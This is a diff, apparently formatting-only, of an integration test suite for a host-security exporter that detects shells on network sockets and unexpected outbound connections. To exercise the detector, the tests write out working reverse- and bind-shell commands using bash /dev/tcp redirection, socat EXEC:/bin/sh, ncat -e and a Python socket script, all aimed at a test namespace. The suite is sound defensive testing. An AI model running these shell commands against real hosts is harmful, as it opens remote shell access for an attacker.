@@ -35,11 +35,26 @@ const policy = 'processes:\n  hidden_sweep: { enabled: false }\nlisteners:\n  hi
 
 function exporterArgs(dir: string, policyText = policy): string[] {
   writeFileSync(join(dir, 'policy.yml'), policyText);
-  return ['--collector.disable-defaults', '--collector.processes', '--collector.network', '--findings.show-details', '--state.dir', dir, '--config.file', join(dir, 'policy.yml')];
+  return [
+    '--collector.disable-defaults',
+    '--collector.processes',
+    '--collector.network',
+    '--findings.show-details',
+    '--state.dir',
+    dir,
+    '--config.file',
+    join(dir, 'policy.yml'),
+  ];
 }
 
 beforeAll(async () => {
-  for (const [tool, pkg] of [['socat', 'socat'], ['ncat', 'ncat'], [python, 'python3'], ['ss', 'iproute2']]) requireTool(tool!, pkg!);
+  for (const [tool, pkg] of [
+    ['socat', 'socat'],
+    ['ncat', 'ncat'],
+    [python, 'python3'],
+    ['ss', 'iproute2'],
+  ])
+    requireTool(tool!, pkg!);
   stateDir = tempDir();
   // Trust on first use: the host as it is now is the baseline, so only what the tests plant is new.
   exporter = await startExporter(exporterArgs(stateDir), { spawn: spawnForFile });
@@ -79,7 +94,9 @@ function remoteListener(port: number) {
 
 /** Wait until something listens in the remote namespace on this port (ncat -l is up). */
 async function remoteListening(port: number): Promise<void> {
-  await eventually(() => remote.run('ss', ['-Htln', `sport = :${port}`]).trim() !== '', { what: `a listener on ${remote.remoteAddress}:${port}` });
+  await eventually(() => remote.run('ss', ['-Htln', `sport = :${port}`]).trim() !== '', {
+    what: `a listener on ${remote.remoteAddress}:${port}`,
+  });
 }
 
 describe('shells on sockets and interpreters calling out, seen by serve on the first scrape', () => {
@@ -115,9 +132,9 @@ describe('shells on sockets and interpreters calling out, seen by serve on the f
       `/usr/bin/bash (pid ${shell.pid}) has its standard input, output and error on a tcp connection it opened to ${remote.remoteAddress}:${port}: a reverse shell`,
     );
     // bash is an interpreter calling a destination the baseline never saw it use.
-    expect(about(await findings(), 'unexpected_outbound', port).map((f) => [f.subject.exe, f.subject.reason, f.subject.remote_class])).toEqual([
-      ['/usr/bin/bash', 'new_destination', 'private'],
-    ]);
+    expect(
+      about(await findings(), 'unexpected_outbound', port).map((f) => [f.subject.exe, f.subject.reason, f.subject.remote_class]),
+    ).toEqual([['/usr/bin/bash', 'new_destination', 'private']]);
     const before = await metrics();
     expect(
       sampleValue(before, 'hostguard_network_shell_on_socket', {
@@ -138,7 +155,9 @@ describe('shells on sockets and interpreters calling out, seen by serve on the f
     const sent = sampleValue(after, 'hostguard_network_flagged_bytes_total', { direction: 'sent', kind: 'shell_on_socket' })! - sentBefore;
     expect(sent).toBeGreaterThanOrEqual(300_000);
     expect(sent).toBeLessThan(310_000);
-    expect(sampleValue(after, 'hostguard_network_flagged_bytes_total', { direction: 'received', kind: 'shell_on_socket' })).toBeGreaterThan(0);
+    expect(sampleValue(after, 'hostguard_network_flagged_bytes_total', { direction: 'received', kind: 'shell_on_socket' })).toBeGreaterThan(
+      0,
+    );
 
     await stopProcess(shell, 'SIGKILL');
     expect(about(await findings(), 'shell_on_socket', port)).toEqual([]);
@@ -148,13 +167,28 @@ describe('shells on sockets and interpreters calling out, seen by serve on the f
     const plainPort = 4445;
     remoteListener(plainPort);
     await remoteListening(plainPort);
-    spawnOwned(python, ['-c', `import socket,signal; s=socket.create_connection(('${remote.remoteAddress}', ${plainPort})); print('CONNECTED', flush=True); signal.pause()`]);
+    spawnOwned(python, [
+      '-c',
+      `import socket,signal; s=socket.create_connection(('${remote.remoteAddress}', ${plainPort})); print('CONNECTED', flush=True); signal.pause()`,
+    ]);
     await waitUntilConnected(plainPort);
     const outbound = about(await findings(), 'unexpected_outbound', plainPort);
     expect(outbound.map((f) => f.subject)).toEqual([
-      { protocol: 'tcp', exe: pythonExe, user: 'root', reason: 'new_destination', remote_class: 'private', remote_address: remote.remoteAddress, remote_port: plainPort },
+      {
+        protocol: 'tcp',
+        exe: pythonExe,
+        user: 'root',
+        reason: 'new_destination',
+        remote_class: 'private',
+        remote_address: remote.remoteAddress,
+        remote_port: plainPort,
+      },
     ]);
-    expect(outbound[0]!.message).toMatch(new RegExp(`^${pythonExe} \\(pid \\d+\\) is connected to tcp ${remote.remoteAddress.replace(/\./g, '\\.')}:${plainPort} \\(private\\), a destination the baseline never saw it use$`));
+    expect(outbound[0]!.message).toMatch(
+      new RegExp(
+        `^${pythonExe} \\(pid \\d+\\) is connected to tcp ${remote.remoteAddress.replace(/\./g, '\\.')}:${plainPort} \\(private\\), a destination the baseline never saw it use$`,
+      ),
+    );
     expect(about(await findings(), 'shell_on_socket', plainPort)).toEqual([]);
 
     const ptyPort = 4446;
@@ -164,8 +198,15 @@ describe('shells on sockets and interpreters calling out, seen by serve on the f
     const shell = spawnOwned(python, ['-c', script]);
     await session.answer('echo PTY-$((2*21))', /PTY-42/);
     // The interpreter holds the socket as its standard streams; the shell it spawned is on a terminal.
-    expect(about(await findings(), 'shell_on_socket', ptyPort).map((f) => [f.severity, f.subject.exe, f.subject.direction, f.message])).toEqual([
-      ['critical', pythonExe, 'outgoing', `${pythonExe} (pid ${shell.pid}) has its standard input, output and error on a tcp connection it opened to ${remote.remoteAddress}:${ptyPort}: a reverse shell`],
+    expect(
+      about(await findings(), 'shell_on_socket', ptyPort).map((f) => [f.severity, f.subject.exe, f.subject.direction, f.message]),
+    ).toEqual([
+      [
+        'critical',
+        pythonExe,
+        'outgoing',
+        `${pythonExe} (pid ${shell.pid}) has its standard input, output and error on a tcp connection it opened to ${remote.remoteAddress}:${ptyPort}: a reverse shell`,
+      ],
     ]);
   });
 
@@ -175,7 +216,9 @@ describe('shells on sockets and interpreters calling out, seen by serve on the f
     await remoteListening(direct);
     spawnOwned('socat', [`TCP:${remote.remoteAddress}:${direct}`, 'EXEC:/bin/sh,nofork']);
     await session.answer('echo SOCAT-$((40+2))', /SOCAT-42/);
-    expect(about(await findings(), 'shell_on_socket', direct).map((f) => [f.subject.exe, f.subject.program_class])).toEqual([['/usr/bin/dash', 'interpreter']]);
+    expect(about(await findings(), 'shell_on_socket', direct).map((f) => [f.subject.exe, f.subject.program_class])).toEqual([
+      ['/usr/bin/dash', 'interpreter'],
+    ]);
 
     const piped = 4448;
     const relay = remoteListener(piped);
@@ -185,7 +228,9 @@ describe('shells on sockets and interpreters calling out, seen by serve on the f
     const list = await findings();
     // sh reads a unix socketpair here, not a network socket: not a shell on a socket.
     expect(about(list, 'shell_on_socket', piped)).toEqual([]);
-    expect(about(list, 'unexpected_outbound', piped).map((f) => [f.subject.exe, f.subject.reason])).toEqual([['/usr/bin/socat', 'new_destination']]);
+    expect(about(list, 'unexpected_outbound', piped).map((f) => [f.subject.exe, f.subject.reason])).toEqual([
+      ['/usr/bin/socat', 'new_destination'],
+    ]);
   });
 
   it('ncat -e relays through pipes: ncat (a network tool) calling out is the finding', async () => {
@@ -197,7 +242,9 @@ describe('shells on sockets and interpreters calling out, seen by serve on the f
     const list = await findings();
     expect(about(list, 'shell_on_socket', port)).toEqual([]);
     // sh inherits ncat's socket as well (fd 3), so both hold the connection.
-    expect(about(list, 'unexpected_outbound', port).map((f) => [f.subject.exe, f.subject.reason])).toEqual([['/usr/bin/dash,/usr/bin/ncat', 'new_destination']]);
+    expect(about(list, 'unexpected_outbound', port).map((f) => [f.subject.exe, f.subject.reason])).toEqual([
+      ['/usr/bin/dash,/usr/bin/ncat', 'new_destination'],
+    ]);
   });
 
   it('a bind shell handed an accepted connection is a shell_on_socket of direction incoming', async () => {
@@ -208,9 +255,9 @@ describe('shells on sockets and interpreters calling out, seen by serve on the f
     const output = outputOf(client);
     client.stdin!.write('echo BIND-$((40+2))\n');
     await output.waitFor(/BIND-42/);
-    expect(about(await findings(), 'shell_on_socket', port).map((f) => [f.severity, f.subject.exe, f.subject.direction, f.subject.remote_class])).toEqual([
-      ['critical', '/usr/bin/dash', 'incoming', 'private'],
-    ]);
+    expect(
+      about(await findings(), 'shell_on_socket', port).map((f) => [f.severity, f.subject.exe, f.subject.direction, f.subject.remote_class]),
+    ).toEqual([['critical', '/usr/bin/dash', 'incoming', 'private']]);
     expect(about(await findings(), 'unexpected_listener', port)).toEqual([]);
     await stopProcess(bind);
   });
@@ -225,12 +272,17 @@ describe('between scrapes', () => {
     const port = 4452;
     const session = remoteListener(port);
     await remoteListening(port);
-    const counted = () => metrics().then((m) => sampleValue(m, 'hostguard_network_shell_on_socket_starts_total', { program_class: 'interpreter' })!);
+    const counted = () =>
+      metrics().then((m) => sampleValue(m, 'hostguard_network_shell_on_socket_starts_total', { program_class: 'interpreter' })!);
     const before = await counted();
     // It stays until the exporter has logged it, so no machine is too slow for the watch; no scrape meanwhile.
     const shell = spawnOwned('bash', ['-c', `exec 0<>/dev/tcp/${remote.remoteAddress}/${port} 1>&0 2>&0; echo ONESHOT; read line`]);
     await session.output.waitFor(/ONESHOT/);
-    await exporterLog.waitFor(new RegExp(`socket as a standard stream.*pid=${shell.pid} exe=/usr/bin/bash program_class=interpreter protocol=tcp direction=outgoing port=${port}`));
+    await exporterLog.waitFor(
+      new RegExp(
+        `socket as a standard stream.*pid=${shell.pid} exe=/usr/bin/bash program_class=interpreter protocol=tcp direction=outgoing port=${port}`,
+      ),
+    );
     await stopProcess(shell, 'SIGKILL');
     expect(await counted()).toBe(before + 1);
     expect(about(await findings(), 'shell_on_socket', port)).toEqual([]);
@@ -255,7 +307,10 @@ describe('outgoing connections against the baseline and the processes collector 
   async function pythonConnectedTo(port: number): Promise<number> {
     remoteListener(port);
     await remoteListening(port);
-    const child = spawnOwned(python, ['-c', `import socket,signal; s=socket.create_connection(('${remote.remoteAddress}', ${port})); print('CONNECTED', flush=True); signal.pause()`]);
+    const child = spawnOwned(python, [
+      '-c',
+      `import socket,signal; s=socket.create_connection(('${remote.remoteAddress}', ${port})); print('CONNECTED', flush=True); signal.pause()`,
+    ]);
     await outputOf(child).waitFor(/CONNECTED/);
     return child.pid!;
   }
@@ -266,7 +321,8 @@ describe('outgoing connections against the baseline and the processes collector 
     const firstPid = await pythonConnectedTo(first);
     expect(cli(dir, ['baseline', 'init']).code).toBe(0);
     const key = (port: number) => `outbound tcp/private/${port} ${pythonExe}`;
-    const learned = () => Object.keys((JSON.parse(readFileSync(join(dir, 'baseline.json'), 'utf8')) as BaselineDocument).sections['network'] ?? {});
+    const learned = () =>
+      Object.keys((JSON.parse(readFileSync(join(dir, 'baseline.json'), 'utf8')) as BaselineDocument).sections['network'] ?? {});
     expect(learned()).toEqual(expect.arrayContaining(['outbound', key(first)]));
     expect(about(checkFindings(dir), 'unexpected_outbound', first)).toEqual([]);
 
@@ -312,8 +368,15 @@ describe('outgoing connections against the baseline and the processes collector 
     const agent = nodeUnderAnotherName(tempDir(), 'agent');
     await childConnection(remote.remoteAddress, port, agent);
     const found = checkFindings(dir);
-    expect(found.filter((f) => f.subject.exe === agent).map((f) => f.kind).sort()).toEqual(['unexpected_outbound', 'unknown_executable', 'writable_location']);
-    expect(about(found, 'unexpected_outbound', port).map((f) => [f.subject.reason, f.subject.remote_class])).toEqual([['flagged_process', 'private']]);
+    expect(
+      found
+        .filter((f) => f.subject.exe === agent)
+        .map((f) => f.kind)
+        .sort(),
+    ).toEqual(['unexpected_outbound', 'unknown_executable', 'writable_location']);
+    expect(about(found, 'unexpected_outbound', port).map((f) => [f.subject.reason, f.subject.remote_class])).toEqual([
+      ['flagged_process', 'private'],
+    ]);
     // The network collector alone has no processes collector to flag it: a program of class "other" is not judged.
     const alone = runCli([...exporterArgs(dir).filter((a) => a !== '--collector.processes'), 'check', '--format', 'json']);
     expect(about((JSON.parse(alone.stdout) as FindingsDocument).findings, 'unexpected_outbound', port)).toEqual([]);
@@ -334,7 +397,7 @@ describe('programs a super-server hands a connection to', () => {
     return (JSON.parse(result.stdout) as FindingsDocument).findings;
   }
 
-  it('are on their socket by design: allowed when the listener\'s holder is a super-server, a warning for another program otherwise', async () => {
+  it("are on their socket by design: allowed when the listener's holder is a super-server, a warning for another program otherwise", async () => {
     const port = 4451;
     // socat as a tiny inetd: it accepts, forks, and the child execs cat with the connection as stdin and stdout.
     spawnOwned('socat', [`TCP-LISTEN:${port},bind=${host.hostAddress},reuseaddr,fork`, 'EXEC:/usr/bin/cat,nofork']);
@@ -346,7 +409,9 @@ describe('programs a super-server hands a connection to', () => {
 
     const noSuperServer = 'processes:\n  hidden_sweep: { enabled: false }\nlisteners:\n  hidden_ports: { enabled: false }\n';
     const onSocket = about(check(noSuperServer), 'shell_on_socket', port);
-    expect(onSocket.map((f) => [f.severity, f.subject.exe, f.subject.program_class, f.subject.direction])).toEqual([['warning', '/usr/bin/cat', 'other', 'incoming']]);
+    expect(onSocket.map((f) => [f.severity, f.subject.exe, f.subject.program_class, f.subject.direction])).toEqual([
+      ['warning', '/usr/bin/cat', 'other', 'incoming'],
+    ]);
     expect(onSocket[0]!.message).toContain(`accepted on port ${port}, which no super-server listens on`);
 
     const socatIsOne = `${noSuperServer}shell_on_socket:\n  super_servers: [/usr/bin/socat]\n`;
@@ -362,5 +427,7 @@ function spawnSyncText(command: string, args: string[]): string {
 
 /** The host has an established connection to the remote port. */
 async function waitUntilConnected(port: number): Promise<void> {
-  await eventually(() => spawnSyncText('ss', ['-Htn', 'state', 'established', `dport = :${port}`]) !== '', { what: `a connection to port ${port}` });
+  await eventually(() => spawnSyncText('ss', ['-Htn', 'state', 'established', `dport = :${port}`]) !== '', {
+    what: `a connection to port ${port}`,
+  });
 }
